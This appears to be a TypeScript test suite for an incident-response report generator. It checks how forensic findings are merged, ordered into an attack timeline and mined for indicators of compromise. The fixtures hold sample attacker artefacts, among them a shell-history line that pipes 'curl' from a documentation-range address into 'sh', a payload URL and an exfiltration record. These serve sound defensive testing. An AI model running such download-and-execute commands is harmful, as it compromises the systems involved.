import { expect } from "chai";
import { findingFactsSchema } from "../../../../functions/domain/findingFacts";
import { factsOf } from "../../../../functions/domain/report/facts";
import { entriesOf, exposureOf } from "../../../../functions/domain/report/entry";
import { indicatorsOf, ownAddresses } from "../../../../functions/domain/report/indicators";
import { mostTelling } from "../../../../functions/domain/report/mostTelling";
import { neverLookedAtWords } from "../../../../functions/domain/report/neverLookedAt";
import { read } from "../../../../functions/domain/report/reading";
import { storyOf } from "../../../../functions/domain/report/story";
import { tacticOf, tactics } from "../../../../functions/domain/report/tactics";
import { custody, finding, findings, summary } from "../../../fixtures/analysis/plain";
import { reportInput } from "../../../fixtures/analysis/input";

const login = (path: string, how: string) =>
    finding({
        check: "logins",
        severity: "critical",
        title: "deploy logged in from 203.0.113.66 after 42 failed attempts from there",
        path,
        evidence: `1 times, first 2026-11-20T03:10:02Z, last 2026-11-20T03:10:02Z, by ${how}`,
        attack: ["T1110.001", "T1078"],
        modified: "2026-11-20T03:10:02Z",
    });
const guesses = finding({
    check: "logins",
    severity: "medium",
    title: "42 failed log-ins from 203.0.113.66",
    path: "/var/log/btmp",
    evidence: "first 2026-11-20T03:05:00Z; one succeeded later",
    attack: ["T1110.001"],
    modified: "2026-11-20T03:05:00Z",
});

describe("facts", () => {
    it("tell a log-in once that secure, wtmp and the journal each hold, with its places", () => {
        const facts = factsOf([login("/var/log/secure", "password"), login("/var/log/wtmp", "session"), ...findings]);
        const ours = facts.filter(({ check, severity }) => check === "logins" && severity === "critical");
        expect(ours).to.have.length(1);
        expect(ours[0]!.places.map(({ path }) => path)).to.deep.equal(["/var/log/secure", "/var/log/wtmp"]);
        expect(ours[0]!.ids).to.have.length(2);
    });

    it("begin with what people ask for first among the gravest: data, credentials, root, persistence, mining; and so does the verdict", () => {
        const critical = (title: string, attack: string) => finding({ check: "x", severity: "critical", title, attack: [attack] });
        const mixed = [
            finding({ check: "x", severity: "high", title: "high data", attack: ["T1041"] }),
            critical("mining", "T1496"),
            critical("persistence", "T1053.003"),
            critical("hiding", "T1070"),
            critical("root", "T1548.001"),
            critical("credentials", "T1003.008"),
            critical("data", "T1041"),
        ];
        const order = ["data", "credentials", "root", "persistence", "mining", "hiding", "high data"];
        expect(factsOf(mixed).map(({ title }) => title)).to.deep.equal(order);
        const input = reportInput();
        const { verdict } = read({ ...input, findings: { ...input.findings!, shown: mixed } });
        expect(verdict.findings).to.include("the most serious: data");
    });

    it("leave room in a message for a theft that is high, behind any number of critical web shells", () => {
        const shells = Array.from({ length: 8 }, (_, index) =>
            finding({
                check: "web-shell",
                severity: "critical",
                title: `shell ${index}`,
                path: `/www/${index}.php`,
                attack: ["T1505.003"],
            }),
        );
        const theft = finding({
            check: "shell-history",
            severity: "high",
            title: "Data was packed and sent out to 198.51.100.23: orders.tgz",
            path: "/root/.bash_history",
            attack: ["T1048", "T1560.001"],
        });
        const told = mostTelling(factsOf([...shells, theft]), 5).map(({ title }) => title);
        expect(told).to.deep.equal(["shell 0", "shell 1", "shell 2", "shell 3", theft.title]);
        expect(mostTelling(factsOf(shells), 5)).to.have.length(5);
        // One that stands for two impacts leaves room for another.
        const miner = finding({ check: "yara", severity: "high", title: "miner", path: "/var/tmp/m", attack: ["T1496"] });
        const cron = finding({ check: "cron", severity: "critical", title: "job", path: "/etc/cron.d/x", attack: ["T1053.003", "T1496"] });
        expect(mostTelling(factsOf([miner, cron, ...shells]), 5).map(({ title }) => title))
            .to.include("job")
            .and.not.include("miner");
        expect(mostTelling(factsOf([]), 5)).to.deep.equal([]);
    });

    it("keep what differs apart: another file, another line, another rule", () => {
        expect(factsOf(findings)).to.have.length(findings.length);
        const one = finding({ check: "yara", severity: "high", title: "x", path: "/a", sha256: "a".repeat(64), rule: "r" });
        expect(factsOf([one, { ...one, id: "2", path: "/b" }])).to.have.length(1);
        expect(factsOf([one, { ...one, id: "2", sha256: "b".repeat(64) }])).to.have.length(2);
        expect(factsOf([one, { ...one, id: "2", rule: "other" }])).to.have.length(2);
    });
});

describe("story", () => {
    it("tells what belongs together in time as one, in the order of an attack, and what is old apart", () => {
        const old = finding({ check: "ssh", severity: "medium", title: "old", attack: ["T1110.001"], modified: "2026-10-02T09:14:31Z" });
        const story = storyOf(
            factsOf([...findings, login("/var/log/secure", "password"), old, { ...old, id: "u", title: "undated", modified: null }]),
        );
        expect(story.map(({ from, main }) => [from?.slice(0, 10) ?? null, main])).to.deep.equal([
            ["2026-10-02", false],
            ["2026-11-20", true],
            [null, false],
        ]);
        const told = story[1]!.phases.map(({ tactic }) => tactic);
        expect(told).to.deep.equal([...told].sort((left, right) => tactics.indexOf(left) - tactics.indexOf(right)));
        expect(told[0]).to.equal("Initial access");
    });

    it("is empty where nothing grave was found", () =>
        expect(storyOf(factsOf([finding({ check: "x", severity: "low", title: "x" })]))).to.deep.equal([]));

    it("knows a tactic for every technique that the fixtures name, and says Other for what it does not know", () => {
        for (const { attack } of findings) expect(tacticOf(attack)).to.not.equal("Other");
        expect([tacticOf([]), tacticOf(["T9999"])]).to.deep.equal(["Other", "Other"]);
    });
});

describe("likely entry", () => {
    const setting = finding({
        check: "ssh",
        severity: "medium",
        title: "SSH server: passwords are accepted and so can be guessed",
        path: "/etc/ssh/sshd_config",
        modified: "2026-10-02T09:14:31Z",
    });
    const facts = factsOf([...findings, login("/var/log/secure", "password"), guesses, setting]);

    it("is the guessed password before everything else that is grave, with its reason", () => {
        const [likely, other] = entriesOf(facts, "2026-10-02T09:10:00Z");
        expect(likely).to.include({ confidence: "high", at: "2026-11-20T03:10:02.000Z" });
        expect(likely!.why.join(" ")).to.contain("came with the image");
        expect(other!.what).to.contain("web shell");
    });

    it("says of a setting made after the launch that it was made then", () =>
        expect(entriesOf(facts, "2026-09-01T00:00:00Z")[0]!.why.join(" ")).to.contain("after the launch"));

    it("is less sure when something grave has an earlier time", () => {
        const earlier = finding({ check: "cron", severity: "high", title: "x", modified: "2026-11-19T00:00:00Z" });
        expect(entriesOf(factsOf([login("/var/log/secure", "password"), earlier]), null)[0]!.confidence).to.equal("medium");
    });

    it("is not known where nothing shows it", () => expect(entriesOf(factsOf([findings[0]!]), null)).to.deep.equal([]));

    it("opens the exposure, which the first attempt precedes and containment ends", () => {
        const { moments, open } = exposureOf(facts, entriesOf(facts, null)[0]!, custody.incident.finding, custody.containment);
        expect(moments.map(({ what }) => what)).to.deep.equal([
            "First attempt on record",
            "Likely entry",
            "First seen by the detector",
            "Contained",
        ]);
        expect(open).to.contain("about 21 min");
        expect(exposureOf(facts, entriesOf(facts, null)[0]!, custody.incident.finding, null).open).to.contain("not contained");
    });
});

describe("indicators", () => {
    const own = ownAddresses(["198.51.100.0/24", "not a range", "2001:db8::/32", "1.2.3.4/99"], ["192.0.2.17"]);

    it("tell our own addresses from others", () => {
        for (const each of ["10.1.2.3", "172.31.0.9", "198.51.100.7", "192.0.2.17", "169.254.169.254", "2001:db8::1", "fe80::1"])
            expect(own(each), each).to.equal(true);
        for (const each of ["203.0.113.44", "172.32.0.1", "1.2.3.4", "2001:db9::1", "no address", ""])
            expect(own(each), each).to.equal(false);
    });

    it("are what grave findings and the alert name, each once with where it was seen", () => {
        const alert = { facts: findingFactsSchema.parse({ remoteAddresses: ["203.0.113.44"], domains: ["C2.example.net"] }) };
        const all = indicatorsOf(findings, alert, own);
        const values = (kind: string) => all.filter((each) => each.kind === kind).map(({ value }) => value);
        expect(values("address")).to.deep.equal(["203.0.113.44"]);
        expect(values("domain")).to.include("c2.example.net").and.include("pool.example.net");
        expect(values("url")).to.include("http://203.0.113.44/u.sh");
        expect(values("sha256")).to.include(findings[0]!.sha256);
        expect(all[0]).to.deep.include({ alert: true, side: "theirs", severity: "high" });
        expect(values("domain").join()).to.not.match(/\.(sh|php|service|json)\b/);
    });

    it("are not what an informational log-in or a log's own path says", () => {
        const quiet = finding({
            check: "logins",
            severity: "informational",
            title: "ec2-user logged in from 192.0.2.10",
            path: "/var/log/wtmp",
        });
        expect(indicatorsOf([quiet, login("/var/log/secure", "x")], { facts: null }, own).map(({ value }) => value)).to.deep.equal([
            "203.0.113.66",
            "deploy",
        ]);
    });

    it("are not what stands around the matches of a history", () => {
        const history = finding({
            check: "shell-history",
            severity: "high",
            title: "Command history: downloads and runs in one line",
            path: "/root/.bash_history",
            evidence: "  line 1: ssh backup.example.org\n> line 2: curl http://198.51.100.9/x | sh\n  line 3: ping 198.51.100.77",
        });
        const values = indicatorsOf([history], { facts: null }, own).map(({ value }) => value);
        expect(values).to.include("http://198.51.100.9/x").and.not.include("backup.example.org").and.not.include("198.51.100.77");
    });

    it("stay bounded and quick on what a hostile disk repeats", () => {
        const many = Array.from({ length: 5000 }, (_, index) =>
            finding({
                check: "yara",
                severity: "high",
                title: "x".repeat(900),
                path: `/p/${index}`,
                evidence: "1.".repeat(2000) + "a.".repeat(40),
            }),
        );
        const before = Date.now();
        expect(indicatorsOf(many, { facts: null }, own).length).to.be.at.most(2000 * 7);
        expect(Date.now() - before).to.be.below(5000);
    });
});

describe("what is never looked at", () => {
    it("is said whatever the analysis says", () => {
        for (const input of [reportInput(), reportInput({ summary: { ...summary, notLookedAt: [] } }), reportInput({ summary: null })])
            expect(neverLookedAtWords(input)).to.contain("memory").and.contain("control plane").and.contain("network");
        expect(neverLookedAtWords(reportInput())).to.contain("deleted files");
        expect(read(reportInput()).assessment.complete).to.equal(true);
    });

    it("is of the memory what was not taken of it", () => {
        const acquired = { ...summary.volumes[0]!, volumeId: "vol-acquired", role: "memory" };
        const seen = (itemsLookedAt: number) =>
            neverLookedAtWords(
                reportInput({
                    summary: {
                        ...summary,
                        volumes: [...summary.volumes, acquired],
                        checks: [...summary.checks, { check: "memory-image", itemsLookedAt, findings: 0, error: null }],
                    },
                }),
            );
        expect(neverLookedAtWords(reportInput())).to.match(/^memory,/);
        expect(seen(0)).to.match(/^memory of processes,/);
        expect(seen(1)).to.match(/^structures of the memory image,/);
    });
});
